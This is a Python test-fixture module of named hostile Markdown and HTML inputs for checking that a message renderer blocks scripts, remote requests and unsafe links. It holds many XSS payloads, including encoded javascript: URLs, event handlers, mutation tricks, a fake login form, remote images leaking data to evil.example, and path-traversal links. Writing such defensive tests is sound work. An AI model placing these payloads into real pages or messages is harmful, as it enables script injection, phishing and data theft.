"""Markdown that attacks the page it is shown on: (name, markdown) pairs, for the renderer's tests and a real browser.

Nothing here may run a script, ask any server for anything without a click, lead to an address that is not http, https,
mailto or ours, or change how anything outside the message looks. `attacked` is what a script would set if one ran.
"""

_RUN = 'window.attacked=1'

_HTML = {
    'script': f'<script>{_RUN}</script>',
    'script in the text': f'before <script>{_RUN}</script> after',
    'script of a remote origin': '<script src=//evil.example/x.js></script>',
    'script cut by a comment': f'<scr<!-- -->ipt>{_RUN}</scr<!-- -->ipt>',
    'unclosed script': f'<script>{_RUN}//',
    'image handler': f'<img src=x onerror="{_RUN}">',
    'image handler with a slash': f'<img/src=x/onerror={_RUN}>',
    'handler in capitals': f'<IMG SRC=x OnErRoR={_RUN}>',
    'body handler': f'<body onload={_RUN}>',
    'details handler': f'<details open ontoggle={_RUN}>x</details>',
    'media handler': f'<video><source onerror="{_RUN}"></video><audio src=x onerror={_RUN}>',
    'focus handler': f'<input autofocus onfocus={_RUN}>',
    'animation handler': f'<style>@keyframes x{{}}</style><b style="animation-name:x" onanimationstart={_RUN}>x</b>',
    'svg': f'<svg onload={_RUN}><script>{_RUN}</script></svg>',
    'svg link': f'<svg><a xlink:href="javascript:{_RUN}"><text y=20>x</text></a></svg>',
    'svg use': '<svg><use href="data:image/svg+xml;base64,PHN2Zy8+#x"/></svg>',
    'svg foreign object': '<svg><foreignObject><iframe src=//evil.example></iframe></foreignObject></svg>',
    'math': f'<math><mtext><table><mglyph><style><img src=x onerror={_RUN}></style></mglyph></table></mtext></math>',
    'template': f'<template><img src=x onerror={_RUN}></template>',
    'noscript': f'<noscript><p title="</noscript><img src=x onerror={_RUN}>"></noscript>',
    'iframe': '<iframe src="https://evil.example/"></iframe>',
    'iframe with a document': f'<iframe srcdoc="<script>parent.{_RUN}</script>"></iframe>',
    'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
    'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    'base': '<base href="https://evil.example/">\n\n[x](/settings)',
    'style sheet': '<style>body{display:none}</style>',
    'style sheet of a remote origin': '<link rel=stylesheet href=https://evil.example/x.css>',
    'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">x</p>',
    'id and class': '<div id="app" class="q-layout fixed-full">x</div>',
    'name that hides a property': '<form name=getElementById><input name=cookie></form>',
    'form': '<form action="https://evil.example/"><input type=password name=p><button>Log in</button></form>',
    'button with an action of ours': '<button data-action="delete-message">x</button><button formaction="/">y</button>',
    'srcset': '<img srcset="https://evil.example/a.png 1x"><picture><source srcset="//evil.example/b.png"></picture>',
    'closing tags of the page': '</p></div></div></body></html><h1>outside',
    'html comment': f'<!-- --!><img src=x onerror={_RUN}> -->',
    'cdata': f'<![CDATA[><img src=x onerror={_RUN}>]]>',
    'processing instruction': f'<?xml version="1.0"?><img src=x onerror={_RUN}>',
    'html after a blank line': f'<div>\n\n<img src=x onerror={_RUN}>\n\n</div>',
    'html in a table': f'| a |\n|---|\n| <img src=x onerror={_RUN}> |',
    'html in a list': f'- <img src=x onerror={_RUN}>\n  - <script>{_RUN}</script>',
    'section with a script': f'<details open ontoggle={_RUN} style=top:0 id=app>\n<summary onclick={_RUN}>x</summary>',
    'section around html': f'<details>\n<summary><img src=x onerror={_RUN}></summary>\n<script>{_RUN}</script>',
    'footnote named by html': f'a[^<img/src=x/onerror={_RUN}>]\n\n[^<img/src=x/onerror={_RUN}>]: b',
    'footnote named by quotes': f'a[^"onclick="{_RUN}]\n\n[^"onclick="{_RUN}]: <img src=x onerror={_RUN}>',
    'html as entities': f'&lt;img src=x onerror={_RUN}&gt; &#60;script&#62;{_RUN}&#60;/script&#62;',
    'vue template': '{{ constructor.constructor("window.attacked=1")() }} <b v-html="x">x</b>',
}

_ADDRESSES = {
    'javascript': f'javascript:{_RUN}',
    'javascript in capitals': f'JaVaScRiPt:{_RUN}',
    'javascript with entities': f'&#106;avascript&colon;{_RUN}',
    'javascript with hex entities': f'&#x6A;&#x61;vascript:{_RUN}',
    'javascript with a tab entity': f'java&Tab;script:{_RUN}',
    'javascript with a line entity': f'java&NewLine;script:{_RUN}',
    'javascript after a control character': f'\x01javascript:{_RUN}',
    'javascript after an entity space': f'&#32;javascript:{_RUN}',
    'javascript percent-encoded': f'%6aavascript:{_RUN}',
    'javascript with a backslash': f'java\\script:{_RUN}',
    'javascript with a zero width space': f'java\u200bscript:{_RUN}',
    'javascript in full width letters': f'ｊavascript:{_RUN}',
    'javascript after a comment': f'javascript:/*x*/{_RUN}//https://good.example',
    'vbscript': 'vbscript:msgbox(1)',
    'data page': 'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
    'data picture': 'data:image/png;base64,iVBORw0KGgo=',
    'data svg': 'data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+',
    'file': 'file:///etc/passwd',
    'blob': 'blob:https://evil.example/1',
    'view-source': 'view-source:https://evil.example/',
    'other program': 'ms-settings:x',
    'protocol relative': '//evil.example/x',
    'protocol relative with backslashes': '/\\\\evil.example/x',
    'protocol relative with a tab': '/&Tab;/evil.example/x',
    'relative': 'settings',
    'fragment': '#app',
    'no host': 'https:evil',
}

_FORMS = {
    'link': '[x](<{}>)',
    'link without brackets': '[x]({})',
    'link by reference': '[x][r]\n\n[r]: <{}>',
    'autolink': '<{}>',
    'image': '![x](<{}>)',
    'image by reference': '![x][r]\n\n[r]: <{}> "title"',
    'image in a link': '[![x](<{0}>)](<{0}>)',
}

_REMOTE_IMAGES = {
    'plain': '![secret](https://evil.example/x.png?q=secret)',
    'with a title': '![a](https://evil.example/x.png "title\\" onload=alert(1)")',
    'by reference': '![a][i]\n\n[i]: https://evil.example/x.png',
    'by its own name': '![evil]\n\n[evil]: https://evil.example/x.png "t"',
    'without text': '![](https://evil.example/x.png)',
    'inside a link': '[![a](https://evil.example/x.png)](https://evil.example/)',
    'inside a dropped link': '[![a](https://evil.example/x.png)](javascript:alert)',
    'in the text of another': '![a ![b](https://evil.example/b.png)](https://evil.example/a.png)',
    'in a table': '| a |\n|---|\n| ![x](https://evil.example/x.png) |',
    'in a heading': '# ![x](http://evil.example/x.png)',
}

_OWN_IMAGES = {
    'of the archive': '![x](/export/archive)',
    'of the archive by reference': '![x][i]\n\n[i]: /export/archive',
    'of the archive through the files': '![x](/files/../export/archive)',
    'of the archive through encoded dots': '![x](/files/%2e%2e/export/archive)',
    'of the archive in a table': '| a |\n|---|\n| ![x](/export/archive?1) |',
    'of a page': '![x](/)',
    'of a line': '![x](/_nicegui_ws/socket.io/?EIO=4&transport=polling)',
    'of nothing': '![x]()',
}

_TEXT = {
    'link title with quotes': '[x](https://a.example "\\" onmouseover=\\"window.attacked=1")',
    'link title with html': f"[x](https://a.example '\"><img src=x onerror={_RUN}>')",
    'link address with quotes': f'[x](<https://a.example/"onmouseover="{_RUN}>)',
    'link text with html': f'[<img src=x onerror={_RUN}>](https://a.example)',
    'image text with quotes': f'![" onerror="{_RUN}](/files/own.png)',
    'fence language with quotes': f'```x"onmouseover="{_RUN}\ncode\n```',
    'fence language with html': f'```<img/src=x/onerror={_RUN}>\ncode\n```',
    'fence language with entities': f'```&quot;&gt;&lt;img/src=x/onerror={_RUN}&gt;\ncode\n```',
    'fence language that is a class': '~~~ q-dialog fixed-full\ncode\n~~~',
    'fence with html': f'```html\n</code></pre><img src=x onerror={_RUN}>\n```',
    'indented html': f'    </code></pre><script>{_RUN}</script>',
    'inline code with html': f'`</code><img src=x onerror={_RUN}>`',
    'task list with html': f'- [ ] <input type=text onfocus={_RUN} autofocus>\n- [x] x',
    'nul characters': f'<scr\0ipt>{_RUN}</script> [x](java\0script:{_RUN})',
    'half of a surrogate pair': 'a \ud800 b [x](https://a.example/\udc00)',
    'text turned around': '[\u202egpj.exe](https://a.example/) \u2066x',
    'byte order mark': f'\ufeff<script>{_RUN}</script>\n\n```python\n\ufeffx = 1\n```',
    'deep nesting': '> ' * 200 + 'x\n\n' + '- ' * 200 + 'x',
    'many brackets': '[' * 500 + 'x' + '](y)' * 500,
    'many emphases': '*a **b ' * 300,
}

HOSTILE_MARKDOWN: list[tuple[str, str]] = [
    *_HTML.items(),
    *(
        (f'{form}: {name}', shape.format(address))
        for form, shape in _FORMS.items()
        for name, address in _ADDRESSES.items()
    ),
    *((f'remote image {name}', markdown) for name, markdown in _REMOTE_IMAGES.items()),
    *((f'own image {name}', markdown) for name, markdown in _OWN_IMAGES.items()),
    *_TEXT.items(),
]
"""Every attack, by name."""
